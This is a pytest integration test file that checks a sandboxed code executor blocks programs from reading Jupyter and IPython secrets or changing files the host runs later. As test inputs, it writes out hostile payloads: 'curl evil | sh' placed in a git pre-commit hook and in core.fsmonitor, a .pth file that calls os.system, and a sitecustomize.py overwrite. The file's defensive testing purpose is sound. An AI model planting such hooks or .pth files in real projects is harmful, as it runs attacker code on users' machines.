"""Hostile programs against the files the host reads: Jupyter's and IPython's secrets, and what the host runs.

A real executor with a real worker, as a kernel would run it: the home, Jupyter's and IPython's directories
(both where they are by default and where the environment moves them), a server script the config runs,
and a site-packages on the host's import path inside the workspace. The program tries to read the secrets
and to change what runs outside the sandbox at the next start; each attempt ends in a PermissionError
that says why, and nothing outside changed.
"""

from __future__ import annotations

import json
import os
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from codemode_kernel import Toolbox
from codemode_kernel.config import load_config
from codemode_kernel.executor import ExecutionResult, Executor
from tests.unprivileged import CHILD, rerun_unprivileged

pytestmark = pytest.mark.integration

SERVER_SCRIPT = "from codemode_kernel.servers.weather import main\n\nmain()\n"
HMAC = "connection-file-key-the-worker-must-not-see"
GIT_CONFIG = "[core]\n\trepositoryformatversion = 0\n"


@dataclass(frozen=True)
class Project:
    """The fake home, the moved Jupyter and IPython directories, and the workspace."""

    home: Path
    moved: Path
    workspace: Path
    script: Path
    site_packages: Path


def _connection_file(directory: Path, name: str) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / name
    path.write_text(json.dumps({"key": HMAC, "signature_scheme": "hmac-sha256", "shell_port": 50001}))
    return path


def _history(directory: Path) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "history.sqlite"
    path.write_text(f"SQLite format 3... token = '{HMAC}'")
    return path


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Project:
    base = tmp_path_factory.mktemp("hostfiles")
    home, moved, ws = base / "home", base / "moved", base / "ws"
    # Jupyter and IPython where they are by default, under the home...
    _connection_file(home / ".local/share/jupyter/runtime", "kernel-1234.json")
    _connection_file(home / ".local/share/jupyter/runtime", "jpserver-99.json")
    (home / ".local/share/jupyter/notebook_secret").write_text(HMAC)
    (home / ".jupyter").mkdir()
    (home / ".jupyter/jupyter_server_config.json").write_text(
        json.dumps({"IdentityProvider": {"token": HMAC}})
    )
    _history(home / ".ipython/profile_default")
    # ... and where the environment moves them.
    _connection_file(moved / "runtime", "kernel-5678.json")
    _connection_file(moved / "data", "jupyter_cookie_secret")
    (moved / "config").mkdir()
    _history(moved / "ipython/profile_default")

    script = ws / "srv" / "weather_server.py"
    script.parent.mkdir(parents=True)
    script.write_text(SERVER_SCRIPT)
    site_packages = ws / ".venv/lib/python3.11/site-packages"
    (site_packages / "helper_pkg").mkdir(parents=True)
    (site_packages / "helper_pkg/__init__.py").write_text("VALUE = 1\n")
    (site_packages / "helper.pth").write_text("\n")
    (ws / "mylib").mkdir()
    (ws / "mylib/__init__.py").write_text("ANSWER = 42\n")
    (ws / "notes.txt").write_text("ordinary project file\n")
    for directory in (".git/hooks", ".git/objects"):
        (ws / directory).mkdir(parents=True)
    (ws / ".git/config").write_text(GIT_CONFIG)
    servers = {"weather": {"command": sys.executable, "args": [str(script)]}}
    (ws / "codemode.json").write_text(json.dumps({"mcpServers": servers, "workspace": str(ws)}))
    return Project(home, moved, ws, script, site_packages)


@pytest.fixture(scope="module")
def executor(project: Project) -> Iterator[Executor]:
    with pytest.MonkeyPatch.context() as env:
        env.setenv("HOME", str(project.home))
        env.setenv("JUPYTER_RUNTIME_DIR", str(project.moved / "runtime"))
        env.setenv("JUPYTER_DATA_DIR", str(project.moved / "data"))
        env.setenv("JUPYTER_CONFIG_DIR", str(project.moved / "config"))
        env.setenv("IPYTHONDIR", str(project.moved / "ipython"))
        # A virtual environment inside the workspace, and the workspace itself on the host's import path
        # (a project installed with ``pip install -e .``).
        env.setattr(sys, "path", [*sys.path, str(project.site_packages), str(project.workspace)])
        with Toolbox(load_config(project.workspace / "codemode.json")) as tb, Executor(tb) as ex:
            assert ex.run("1").status == "ok"  # the policy is built now, with this environment
            yield ex


def _denied(result: ExecutionResult, why: str) -> str:
    assert result.status == "error" and result.error is not None, result.value
    assert result.error["type"] == "PermissionError", result.error
    assert why in result.error["message"], result.error["message"]
    return str(result.error["message"])


HIDDEN = "is hidden from programs"
READ_ONLY = "is read-only to programs"


def test_jupyter_and_ipython_secrets_are_hidden(executor: Executor, project: Project) -> None:
    home, moved = project.home, project.moved
    secrets = [
        home / ".local/share/jupyter/runtime/kernel-1234.json",
        home / ".local/share/jupyter/runtime/jpserver-99.json",
        home / ".local/share/jupyter/notebook_secret",
        home / ".jupyter/jupyter_server_config.json",
        home / ".ipython/profile_default/history.sqlite",
        moved / "runtime/kernel-5678.json",
        moved / "data/jupyter_cookie_secret",
        moved / "ipython/profile_default/history.sqlite",
    ]
    for path in secrets:
        _denied(executor.run(f"open({str(path)!r}).read()"), HIDDEN)
    for directory in (moved / "runtime", home / ".local/share/jupyter/runtime", moved / "ipython"):
        _denied(executor.run(f"import os\nos.listdir({str(directory)!r})"), HIDDEN)
    # Searching finds the names (a cover is an empty entry), never the contents.
    search = f"import glob\n[p for p in glob.glob({str(home.parent)!r} + '/**', recursive=True)]"
    found = executor.run(search)
    assert found.status == "ok" and found.value is not None, found.error
    assert not [p for p in found.value["data"] if "kernel-" in p or p.endswith("history.sqlite")]


def test_the_server_script_the_config_runs_cannot_be_changed(executor: Executor, project: Project) -> None:
    script = str(project.script)
    _denied(executor.run(f"open({script!r}, 'w').write('import os; os.system(\"evil\")')"), READ_ONLY)
    _denied(executor.run(f"import os\nos.unlink({script!r})"), READ_ONLY)
    _denied(executor.run(f"import os\nos.replace('notes.txt', {script!r})"), READ_ONLY)
    # Moving the script's directory away would carry a read-only mount off with it, and a new srv/ with a
    # new script would run at the next start: the directory cannot be moved.
    moved = executor.run("import os\nos.rename('srv', 'srv-old')\nos.mkdir('srv')")
    _denied(moved, "cannot be moved")
    assert project.script.read_text() == SERVER_SCRIPT
    assert (project.workspace / "notes.txt").read_text() == "ordinary project file\n"


def test_the_host_import_path_inside_the_workspace_cannot_be_changed(
    executor: Executor, project: Project
) -> None:
    site = project.site_packages
    _denied(
        executor.run(f"open({str(site / 'evil.pth')!r}, 'w').write('import os; os.system(\"x\")')"), READ_ONLY
    )
    _denied(executor.run(f"open({str(site / 'helper_pkg/__init__.py')!r}, 'a').write('evil')"), READ_ONLY)
    _denied(executor.run(f"open({str(site / 'sitecustomize.py')!r}, 'w').write('evil')"), READ_ONLY)
    _denied(executor.run("open('mylib/__init__.py', 'w').write('evil')"), READ_ONLY)
    _denied(executor.run("import os\nos.rename('mylib', 'mylib-old')"), READ_ONLY)
    assert not (site / "evil.pth").exists() and not (site / "sitecustomize.py").exists()
    assert (site / "helper_pkg/__init__.py").read_text() == "VALUE = 1\n"
    assert (project.workspace / "mylib/__init__.py").read_text() == "ANSWER = 42\n"


def test_git_runs_nothing_a_program_wrote(executor: Executor, project: Project) -> None:
    """git runs its hooks and the commands its config names (``core.fsmonitor`` on every ``git status``
    an editor makes): a program may use the repository, not change what git runs."""
    hook = "open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\ncurl evil | sh\\n')"
    _denied(executor.run(hook), READ_ONLY)
    config = "open('.git/config', 'a').write('[core]\\n\\tfsmonitor = curl evil | sh\\n')"
    _denied(executor.run(config), READ_ONLY)
    _denied(executor.run("import os\nos.rename('.git', '.git-old')"), "cannot be moved")
    objects = executor.run("open('.git/objects/ab', 'w').write('blob')")
    assert objects.status == "ok", objects.error
    assert (project.workspace / ".git/config").read_text() == GIT_CONFIG
    assert os.listdir(project.workspace / ".git/hooks") == []


def test_the_rest_of_the_workspace_stays_writable_and_the_gap_is_reported(
    executor: Executor, project: Project
) -> None:
    written = executor.run("open('notes.txt', 'a').write('more\\n')\nopen('new.txt', 'w').write('ok')")
    assert written.status == "ok", written.error
    assert (project.workspace / "new.txt").read_text() == "ok"
    protections = executor.protections()
    assert "mount_namespace:read_only_paths" in protections, protections
    # The workspace itself is on the import path: a new top-level module there cannot be stopped.
    gap = [w for w in protections.warnings if str(project.workspace) in w and "import" in w]
    assert gap, protections.warnings
    assert os.path.exists(project.script)


@pytest.mark.skipif(CHILD, reason="this is the unprivileged re-run")
def test_host_files_as_an_unprivileged_user() -> None:
    """The same module again under uid/gid 65534 (user namespaces instead of root's rights)."""
    completed = rerun_unprivileged(__file__)
    assert completed.returncode == 0, completed.stdout[-4000:] + completed.stderr[-2000:]
    assert "5 passed" in completed.stdout and "1 skipped" in completed.stdout, completed.stdout[-2000:]
